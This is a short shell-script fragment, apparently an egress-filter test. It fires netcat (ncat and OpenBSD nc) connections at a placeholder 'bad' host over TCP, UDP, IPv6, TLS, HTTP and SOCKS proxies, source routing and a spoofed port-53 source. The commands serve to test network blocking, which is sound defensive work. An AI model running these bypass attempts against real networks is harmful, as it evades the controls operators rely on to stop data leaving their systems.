# Both netcats: TCP, UDP, SCTP, TLS, through proxies that somebody else offers.
say nc-tcp ncat --send-only -w 1 "$BAD4" 443
say nc-udp ncat -u --send-only -w 1 "$BAD4" 443
say nc-six ncat -6 -u --send-only -w 1 "$BAD6" 443
say nc-tls ncat --ssl --send-only -w 1 "$BAD4" 444
say nc-proxy ncat --proxy "$BAD4:80" --proxy-type http -w 1 203.0.113.10 443
say nc-routed ncat -g 203.0.113.10 -u --send-only -w 1 "$BAD4" 443
say bsd-tcp nc.openbsd -N -w 1 "$BAD4" 443
say bsd-udp nc.openbsd -u -w 1 "$BAD4" 443
say bsd-six nc.openbsd -6 -u -w 1 "$BAD6" 443
say bsd-bound nc.openbsd -u -w 1 -s "$AGENT4" -p 53 "$BAD4" 443
say bsd-socks nc.openbsd -w 1 -X 5 -x "$BAD4:53" 203.0.113.10 443
wait
